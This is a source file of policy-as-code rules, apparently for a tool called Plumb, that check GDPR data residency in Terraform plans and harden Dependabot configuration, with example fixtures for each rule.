              {"address": "aws_db_instance.ledger", "mode": "managed", "type": "aws_db_instance", "name": "ledger",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"engine": "postgres", "tags": {"component": "payments-api"}}, "after_unknown": {"arn": true}}}],
             "configuration": {
               "provider_config": {
                 "aws.us": {"name": "aws", "alias": "us", "expressions": {"region": {"constant_value": ↓"us-east-1"}}}},
               "root_module": {"resources": [
                 {"address": "aws_db_instance.ledger", "mode": "managed", "type": "aws_db_instance", "name": "ledger",
                  "provider_config_key": "aws.us", "expressions": {"engine": {"constant_value": "postgres"}}}]}}}
          """
        } expect "'aws_db_instance.ledger' holds personal data of 'payments-api' in region 'us-east-1'"
        example fail "GCS dual-region across the EU and London" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "google_storage_bucket.contacts", "mode": "managed", "type": "google_storage_bucket",
               "name": "contacts", "provider_name": "registry.terraform.io/hashicorp/google",
               "change": {"actions": ["create"], "before": null,
                 "after": {"location": ↓"EUR5", "labels": {"component": "crm"}}, "after_unknown": {"url": true}}}]}
          """
        } expect "in region 'eur5' (EU+UK), outside EU"
        example pass "Azure location written with spaces" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "azurerm_storage_account.sa", "mode": "managed", "type": "azurerm_storage_account",
               "name": "sa", "provider_name": "registry.terraform.io/hashicorp/azurerm",
               "change": {"actions": ["create"], "before": null,
                 "after": {"location": "West Europe", "account_replication_type": "LRS", "tags": {"component": "crm"}},
                 "after_unknown": {"id": true}}}]}
          """
        }
        example indeterminate "region known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": {"component": "payments-api"}}, "after_unknown": {"region": true}}}]}
          """
        } expect "cannot tell whether 'aws_s3_bucket.b' keeps the personal data of 'payments-api' in EU"
        example indeterminate "tags known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "us-east-1"}, "after_unknown": {"tags": true, "tags_all": true}}}]}
          """
        }
        example pass "not personal data" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: docs-site}
            spec: {type: website, lifecycle: production, owner: web}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.b", "mode": "managed", "type": "aws_s3_bucket", "name": "b",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "us-east-1", "tags": {"component": "docs-site"}}, "after_unknown": {}}}]}
          """
        }
      }

      """#),
    PolicySource(
      path: "rules/residency/personal_data_in_global_service.plumb",
      text: #"""
      rule personal_data_in_global_service {
        title "Components holding personal data do not use global services for it"
        severity high
        category residency
        tags [terraform, catalog, cross-source, gdpr, residency]
        docs "docs/residency.md"
        rationale """
          Global services have no region: a CloudFront distribution caches responses at edge locations
          worldwide (even `PriceClass_100` includes the USA), Global Accelerator and Front Door route
          through every point of presence, a resource whose location is `global` is stored wherever the
          provider chooses. Personal data that passes through them leaves the jurisdiction, and no region
          setting can bring it back, so such resources are named explicitly. Control-plane services that
          hold configuration rather than the component's data (IAM, Route 53, Organizations, billing) are
          exempt through `exempt_types` (regular expressions on the resource type), as region-deny
          policies exempt them.
        """
        remediation """
          Serve personal data from a regional service in the jurisdiction (an ALB or API Gateway in an
          EU region instead of CloudFront, an Application Gateway instead of Front Door), or keep the
          personal data out of the global service (do not cache it) and record that decision as a
          waiver with a reason.
        """
        param exempt_types: list<pattern> = [
          "^aws_iam_", "^aws_organizations_", "^aws_route53", "^aws_account_", "^aws_budgets_", "^aws_ce_", "^aws_cur_",
          "^aws_billing", "^aws_bcmdataexports_", "^aws_costoptimizationhub_", "^aws_pricing_", "^aws_rolesanywhere_",
          "^aws_notifications", "^aws_s3_account_public_access_block$", "^aws_ec2_image_block_public_access$",
          "^azurerm_dns_", "^azurerm_private_dns_", "^azurerm_traffic_manager_", "^google_dns_", "_iam_",
          "^google_service_account", "^google_organization_", "^google_folder_", "^google_billing_"
        ]

        for r in terraform.resource
        let linked = r -> belongsTo
        let personal = filter(e in linked, e.metadata.annotations["plumb.dev/data-class"] == "personal")
        let c = first(personal)
        let personal_components = count(catalog.Component[metadata.annotations["plumb.dev/data-class"] == "personal"])
        when not (r.actions == ["delete"] or r.actions == ["forget"])
        when is_global_service(r)
        # Tags unknown until apply (`tags_all` with the provider's default tags still unknown): the
        # resource cannot be linked, so whether it belongs to a personal-data component is unknown.
        # Known resource tags that are empty, with a provider that sets no default tags, settle it.
        let tags_unknown = is_unknown(r.tags) and (is_unknown(r.after.tags) or not is_empty(r.after.tags)
          or not exists(r.provider.resolved_key) or exists(r.provider.expressions.default_tags)
          or exists(r.provider.expressions.default_labels))
        # (`tags_unknown and r.tags != null` is unknown exactly then, false otherwise.)
        when count(personal) > 0 or (personal_components > 0 and count(linked) == 0 and tags_unknown and r.tags != null)
        require any(p in param.exempt_types, type(r) matches p)
          else "'${r.address}' (${type(r)}) is a global service with no region: the personal data of '${name(c)}' it handles is not confined to any jurisdiction"
          at r.type

        example pass "IAM role of a personal-data component (control plane, exempt)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_iam_role.api", "mode": "managed", "type": "aws_iam_role", "name": "api",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"name": "payments-api", "tags": {"component": "payments-api"}}, "after_unknown": {"arn": true}}}]}
          """
        }
        example fail "CloudFront in front of a personal-data component" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_cloudfront_distribution.api", "mode": "managed", "type": ↓"aws_cloudfront_distribution",
               "name": "api", "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"price_class": "PriceClass_100", "enabled": true, "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true, "domain_name": true}}}]}
          """
        } expect "'aws_cloudfront_distribution.api' (aws_cloudfront_distribution) is a global service with no region: the personal data of 'payments-api'"
        example fail "Azure resource placed in the 'global' location" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "azurerm_cdn_profile.web", "mode": "managed", "type": ↓"azurerm_cdn_profile", "name": "web",
               "provider_name": "registry.terraform.io/hashicorp/azurerm",
               "change": {"actions": ["create"], "before": null,
                 "after": {"location": "global", "sku": "Standard_Microsoft", "tags": {"component": "crm"}},
                 "after_unknown": {"id": true}}}]}
          """
        } expect "the personal data of 'crm' it handles is not confined to any jurisdiction"
        example indeterminate "tags known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_cloudfront_distribution.api", "mode": "managed", "type": "aws_cloudfront_distribution",
               "name": "api", "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"price_class": "PriceClass_All", "enabled": true},
                 "after_unknown": {"arn": true, "tags": true, "tags_all": true}}}]}
          """
        }
        example pass "CloudFront of a component without personal data" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata: {name: docs-site}
            spec: {type: website, lifecycle: production, owner: web}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_cloudfront_distribution.docs", "mode": "managed", "type": "aws_cloudfront_distribution",
               "name": "docs", "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"enabled": true, "tags": {"component": "docs-site"}}, "after_unknown": {"arn": true}}}]}
          """
        }
      }

      """#),
    PolicySource(
      path: "rules/residency/personal_data_replicas_in_allowed_regions.plumb",
      text: #"""
      rule personal_data_replicas_in_allowed_regions {
        title "Replicas and backups of personal data stay in allowed regions"
        severity critical
        category residency
        tags [terraform, catalog, cross-source, gdpr, residency, replication, backup]
        docs "docs/residency.md"
        rationale """
          Replication and backup settings are where residency silently breaks: the table is in Frankfurt
          but a DynamoDB `replica` sits in `us-east-1`, an S3 replication rule copies every object to a
          bucket in Virginia, a geo-redundant (GRS) storage account or SQL database backs up to the
          paired region, Cosmos DB writes to every `geo_location`, Cloud SQL keeps backups in a
          multi-region, Secret Manager's automatic replication stores secrets anywhere. Each copy is a
          transfer of the personal data as much as the primary. A destination unknown until apply, or
          one Plumb cannot resolve (a replication target bucket outside the plan, a geo-redundant account
          in a region without a pair), is indeterminate: residency fails closed.
        """
        remediation """
          Point replicas and backup copies at regions of the jurisdiction (`replica { region_name =
          "eu-central-1" }`, a destination bucket in an EU region, `backup_configuration { location =
          "eu" }`, `user_managed` Secret Manager replicas), or use locally/zone-redundant storage (`ZRS`,
          `LRS`, `storage_account_type = "Zone"`) where the pair is outside the jurisdiction.
        """
        param jurisdiction: string = "EU"
        param allowed_regions: list<string> = []

        for r in terraform.resource
        # Companion resources without tags (an S3 replication configuration, a DynamoDB table replica)
        # are linked to the components of the resource they belong to (the source bucket or table).
        let linked = r -> belongsTo
        let personal = filter(e in linked, e.metadata.annotations["plumb.dev/data-class"] == "personal")
        let c = first(personal)
        when not (r.actions == ["delete"] or r.actions == ["forget"])
        when count(personal) > 0
        let replicas = replica_locations(r)
        when count(replicas) > 0
        let allowed = map(a in param.allowed_regions, replace(lower(a), " ", ""))
        let explicit = count(allowed) > 0
        let scope = first(filter(s in [join(param.allowed_regions, ", "), param.jurisdiction], s != ""))
        # Copies known to be outside (a copy whose location is unknown is judged below).
        let outside = filter(l in replicas,
          known(l) and ((explicit and l not in allowed)
            or (not explicit and exists(jurisdiction_of(l)) and not in_jurisdiction(l, param.jurisdiction))))
        require count(outside) == 0
          else "'${r.address}' (personal data of '${c.metadata.name}') copies its data to ${join(map(l in outside, "'${l}' (${default(jurisdiction_of(l), "not in Plumb's region data")})"), ", ")}, outside ${scope}"
          at first(outside)
        require count(outside) > 0
            or all(l in replicas, (explicit and l in allowed) or (not explicit and in_jurisdiction(l, param.jurisdiction)))
          else "cannot tell where '${r.address}' (personal data of '${c.metadata.name}') copies its data: ${join(map(l in replicas, "'${l}'"), ", ")} (a copy's location is unknown until apply or not in Plumb's region data)"

        example pass "DynamoDB replica in the EU" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "replica": [{"region_name": "eu-west-1"}],
                           "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true, "replica": [{"arn": true}]}}}]}
          """
        }
        example fail "DynamoDB replica in the US" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1",
                           "replica": [{"region_name": "eu-west-1"}, {"region_name": ↓"us-east-1"}],
                           "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true, "replica": [{"arn": true}, {"arn": true}]}}}]}
          """
        } expect "'aws_dynamodb_table.orders' (personal data of 'payments-api') copies its data to 'us-east-1' (US), outside EU"
        example fail "geo-redundant storage account in London replicates to UK West" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "azurerm_storage_account.contacts", "mode": "managed", "type": "azurerm_storage_account",
               "name": "contacts", "provider_name": "registry.terraform.io/hashicorp/azurerm",
               "change": {"actions": ["create"], "before": null,
                 "after": {"location": ↓"uksouth", "account_replication_type": "GRS", "tags": {"component": "crm"}},
                 "after_unknown": {"id": true, "secondary_location": true}}}]}
          """
        } expect "copies its data to 'ukwest' (UK), outside EU"
        example fail "S3 replication to a bucket in the US managed in the same plan" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"bucket": "acme-exports", "region": "eu-central-1", "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true}}},
              {"address": "aws_s3_bucket.replica", "mode": "managed", "type": "aws_s3_bucket", "name": "replica",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"bucket": "acme-exports-replica", "region": ↓"us-east-1", "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true}}},
              {"address": "aws_s3_bucket_replication_configuration.exports", "mode": "managed",
               "type": "aws_s3_bucket_replication_configuration", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "bucket": "acme-exports",
                           "rule": [{"id": "all", "status": "Enabled",
                                     "destination": [{"bucket": "arn:aws:s3:::acme-exports-replica"}]}]},
                 "after_unknown": {"id": true}}}],
             "configuration": {"root_module": {"resources": [
               {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
                "expressions": {"bucket": {"constant_value": "acme-exports"}}},
               {"address": "aws_s3_bucket.replica", "mode": "managed", "type": "aws_s3_bucket", "name": "replica",
                "expressions": {"bucket": {"constant_value": "acme-exports-replica"}}},
               {"address": "aws_s3_bucket_replication_configuration.exports", "mode": "managed",
                "type": "aws_s3_bucket_replication_configuration", "name": "exports",
                "expressions": {"bucket": {"references": ["aws_s3_bucket.exports.id", "aws_s3_bucket.exports"]},
                                "rule": [{"destination": [{"bucket": {"references": ["aws_s3_bucket.replica.arn", "aws_s3_bucket.replica"]}}]}]}}]}}}
          """
        } expect "'aws_s3_bucket_replication_configuration.exports' (personal data of 'payments-api') copies its data to 'us-east-1' (US)"
        example fail "S3 replication to a bucket whose ARN is known only after apply (the plan shows its region)" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true, "bucket": true}}},
              {"address": "aws_s3_bucket.dr", "mode": "managed", "type": "aws_s3_bucket", "name": "dr",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": ↓"us-west-2", "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true, "bucket": true}}},
              {"address": "aws_s3_bucket_replication_configuration.exports", "mode": "managed",
               "type": "aws_s3_bucket_replication_configuration", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "rule": [{"id": "all", "status": "Enabled", "destination": [{}]}]},
                 "after_unknown": {"id": true, "bucket": true, "rule": [{"destination": [{"bucket": true}]}]}}}],
             "configuration": {"root_module": {"resources": [
               {"address": "aws_s3_bucket_replication_configuration.exports", "mode": "managed",
                "type": "aws_s3_bucket_replication_configuration", "name": "exports",
                "expressions": {"bucket": {"references": ["aws_s3_bucket.exports.id", "aws_s3_bucket.exports"]},
                                "rule": [{"status": {"constant_value": "Enabled"},
                                          "destination": [{"bucket": {"references": ["aws_s3_bucket.dr.arn", "aws_s3_bucket.dr"]}}]}]}}]}}}
          """
        } expect "'aws_s3_bucket_replication_configuration.exports' (personal data of 'payments-api') copies its data to 'us-west-2' (US)"
        example fail "untagged DynamoDB table replica through a provider in the US" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"name": "orders", "tags": {"component": "payments-api"}}, "after_unknown": {"arn": true}}},
              {"address": "aws_dynamodb_table_replica.us", "mode": "managed", "type": "aws_dynamodb_table_replica", "name": "us",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"tags": null, "tags_all": {}}, "after_unknown": {"arn": true, "global_table_arn": true}}}],
             "configuration": {
               "provider_config": {
                 "aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws",
                         "expressions": {"region": {"constant_value": "eu-central-1"}}},
                 "aws.us": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws", "alias": "us",
                            "expressions": {"region": {"constant_value": ↓"us-east-1"}}}},
               "root_module": {"resources": [
                 {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
                  "provider_config_key": "aws", "expressions": {"name": {"constant_value": "orders"}}},
                 {"address": "aws_dynamodb_table_replica.us", "mode": "managed", "type": "aws_dynamodb_table_replica",
                  "name": "us", "provider_config_key": "aws.us",
                  "expressions": {"global_table_arn": {"references": ["aws_dynamodb_table.orders.arn", "aws_dynamodb_table.orders"]}}}]}}}
          """
        } expect "'aws_dynamodb_table_replica.us' (personal data of 'payments-api') copies its data to 'us-east-1' (US)"
        example indeterminate "S3 replication to a bucket outside the plan, named by a variable" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_s3_bucket.exports", "mode": "managed", "type": "aws_s3_bucket", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"bucket": "acme-exports", "region": "eu-central-1", "tags": {"component": "payments-api"}},
                 "after_unknown": {"arn": true}}},
              {"address": "aws_s3_bucket_replication_configuration.exports", "mode": "managed",
               "type": "aws_s3_bucket_replication_configuration", "name": "exports",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "bucket": "acme-exports",
                           "rule": [{"id": "all", "status": "Enabled", "destination": [{"bucket": "arn:aws:s3:::partner-archive"}]}]},
                 "after_unknown": {"id": true}}}]}
          """
        } expect "cannot tell where 'aws_s3_bucket_replication_configuration.exports' (personal data of 'payments-api') copies its data"
        example indeterminate "Cloud SQL backups in the default multi-region" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "google_sql_database_instance.main", "mode": "managed", "type": "google_sql_database_instance",
               "name": "main", "provider_name": "registry.terraform.io/hashicorp/google",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "europe-west1", "settings": [{"backup_configuration": [{"enabled": true, "location": null}],
                           "user_labels": {"component": "crm"}}], "labels": {"component": "crm"}},
                 "after_unknown": {"connection_name": true}}}]}
          """
        } expect "cannot tell where 'google_sql_database_instance.main' (personal data of 'crm') copies its data"
        example indeterminate "DynamoDB replica region known only after apply" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: payments-api
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: payments}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "aws_dynamodb_table.orders", "mode": "managed", "type": "aws_dynamodb_table", "name": "orders",
               "provider_name": "registry.terraform.io/hashicorp/aws",
               "change": {"actions": ["create"], "before": null,
                 "after": {"region": "eu-central-1", "replica": [{}], "tags": {"component": "payments-api"}},
                 "after_unknown": {"replica": [{"region_name": true}]}}}]}
          """
        }
        example pass "Secret Manager with EU user-managed replicas" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "google_secret_manager_secret.db", "mode": "managed", "type": "google_secret_manager_secret",
               "name": "db", "provider_name": "registry.terraform.io/hashicorp/google",
               "change": {"actions": ["create"], "before": null,
                 "after": {"secret_id": "db", "labels": {"component": "crm"},
                           "replication": [{"auto": [], "user_managed": [{"replicas": [
                             {"location": "europe-west1"}, {"location": "europe-west4"}]}]}]},
                 "after_unknown": {"id": true}}}]}
          """
        }
        example fail "Secret Manager automatic replication is global" {
          file "catalog-info.yaml" """
            apiVersion: backstage.io/v1alpha1
            kind: Component
            metadata:
              name: crm
              annotations: {plumb.dev/data-class: personal}
            spec: {type: service, lifecycle: production, owner: sales}
          """
          file "plan.tfplan.json" """
            {"format_version": "1.2", "resource_changes": [
              {"address": "google_secret_manager_secret.db", "mode": "managed", "type": "google_secret_manager_secret",
               "name": "db", "provider_name": "registry.terraform.io/hashicorp/google",
               "change": {"actions": ["create"], "before": null,
                 "after": {"secret_id": "db", "labels": {"component": "crm"},
                           "replication": [{"auto": ↓[{"customer_managed_encryption": []}], "user_managed": []}]},
                 "after_unknown": {"id": true}}}]}
          """
        } expect "copies its data to 'global' (ALL), outside EU"
      }

      """#),
    PolicySource(
      path: "rules/security/dependabot/dependabot_cooldown.plumb",
      text: #"""
      rule dependabot_cooldown {
        title "Dependabot waits before proposing a new release"
        severity medium
        category security
        tags [dependabot, supply-chain]
        rationale """
          Compromised releases (a stolen maintainer token, a hijacked package) are usually found and
          pulled within days. Without a cooldown, Dependabot opens a pull request for a release the day
          it is published, and an auto-merge or a hurried review takes the compromised version in. A
          cooldown (`cooldown: default-days`) makes Dependabot propose only releases older than that.
          Security updates are not delayed by a cooldown, so an entry that opens only security updates
          (`open-pull-requests-limit: 0`) is not judged.
        """
        remediation "Add `cooldown: { default-days: 7 }` (or more) to each entry of `updates`."
        param min_days: int = 7
        # Ecosystems whose updates are not judged (for example one where Dependabot ignores cooldowns).
        param exempt_ecosystems: list<string> = []

        for u in github.dependabot_update
        when to_string(default(u["open-pull-requests-limit"], "")) != "0"
          and default(u.ecosystem, "") not in param.exempt_ecosystems
        let cooldown = default(u.cooldown, null)
        require not is_null(cooldown)
          else "the ${default(u.ecosystem, "?")} updates of ${name(u)} have no cooldown: a release is proposed the day it is published" at u["package-ecosystem"]
          fix { set u.cooldown["default-days"] = param.min_days }
        require is_null(cooldown) or exists(u.cooldown["default-days"])
          else "the ${default(u.ecosystem, "?")} updates' cooldown sets no default-days, so releases not covered by a semver-*-days key are proposed at once" at u.cooldown
          fix { set u.cooldown["default-days"] = param.min_days }
        require not exists(u.cooldown["default-days"]) or default(u.cooldown_days, 0) >= param.min_days
          else "cooldown default-days is ${to_string(u.cooldown["default-days"])}, less than ${param.min_days} days" at u.cooldown["default-days"]
          fix { set u.cooldown["default-days"] = param.min_days }

        example pass """
          version: 2
          updates:
            - package-ecosystem: pip
              directory: /
              schedule:
                interval: daily
              cooldown:
                default-days: 7
            - package-ecosystem: "github-actions"
              directory: "/"
              schedule: {interval: weekly}
              cooldown: {default-days: 14, semver-major-days: 30}
            # Security updates only: cooldown does not apply.
            - package-ecosystem: npm
              directory: /web
              schedule:
                interval: daily
              open-pull-requests-limit: 0
        """
        example fail "missing" """
          version: 2
          updates:
            - package-ecosystem: ↓pip
              directory: /
              schedule:
                interval: daily
        """ expect "the pip updates of / have no cooldown"
        example fail "no default-days, flow style" """
          version: 2
          updates:
            - package-ecosystem: cargo
              directory: /
              cooldown: ↓{semver-major-days: 30}
              schedule: {interval: weekly}
        """ expect "sets no default-days"
        example fail "too short, several entries" """
          version: 2
          updates:
            - package-ecosystem: docker
              directories: ["/", "/images/*"]
              schedule:
                interval: weekly
              cooldown:
                default-days: ↓"3"
            - package-ecosystem: gomod
              directory: /
              schedule:
                interval: weekly
              cooldown:
                default-days: 7
        """ expect "cooldown default-days is 3, less than 7 days"
      }

      """#),
    PolicySource(
      path: "rules/security/dependabot/dependabot_insecure_external_code_execution.plumb",
      text: #"""
      rule dependabot_insecure_external_code_execution {
        title "Dependabot does not run code from the packages it updates"
        severity high
        category security
        tags [dependabot, supply-chain, "unsafe-fix"]
        rationale """
          `insecure-external-code-execution: allow` lets Dependabot run code from the manifests and
          packages it resolves (`setup.py`, gemspecs, mix files) while it updates them. Whoever publishes
          a dependency, or a version of one, then runs code in Dependabot's job, which holds the
          credentials of every private registry the entry uses.
        """
        remediation "Remove the key or set `insecure-external-code-execution: deny`; where an update needs code execution, vendor or pin that dependency instead."

        for u in github.dependabot_update
        require lower(to_string(default(u["insecure-external-code-execution"], "deny"))) != "allow"
          else "the ${default(u.ecosystem, "?")} updates of ${name(u)} allow Dependabot to execute the packages' code" at u["insecure-external-code-execution"]
          fix { set u["insecure-external-code-execution"] = "deny" }

        example pass """
          version: 2
          updates:
            - package-ecosystem: pip
              directory: /
              schedule:
                interval: daily
              insecure-external-code-execution: deny
              cooldown: {default-days: 7}
            - package-ecosystem: bundler
              directory: /
              schedule: {interval: weekly}
        """
        example fail "block" """
          version: 2
          updates:
            - package-ecosystem: pip
              cooldown:
                default-days: 7
              directory: /
              schedule:
                interval: daily
              insecure-external-code-execution: ↓allow
        """ expect "the pip updates of / allow Dependabot to execute the packages' code"
        example fail "quoted, flow, with a registry" """
          version: 2
          registries:
            gems:
              type: rubygems-server
              url: https://gems.example.com
              token: ${{secrets.GEMS_TOKEN}}
          updates:
            - {package-ecosystem: bundler, directory: /, schedule: {interval: daily}, registries: [gems], insecure-external-code-execution: ↓"allow"}
        """ expect "allow Dependabot to execute"
      }

      """#),
    PolicySource(
      path: "rules/security/dependabot/dependabot_registry_hardcoded_credential.plumb",
      text: #"""
      rule dependabot_registry_hardcoded_credential {
        title "Dependabot registries take credentials from secrets"
        severity high
        category security
        tags [dependabot, secrets, credentials]
        rationale """
          A password, token or key written into `.github/dependabot.yml` is readable by everyone who can
          read the repository, stays in its history and in every fork. Dependabot reads registry
          credentials from Dependabot secrets (`${{secrets.NAME}}`); anything else is a literal.
        """
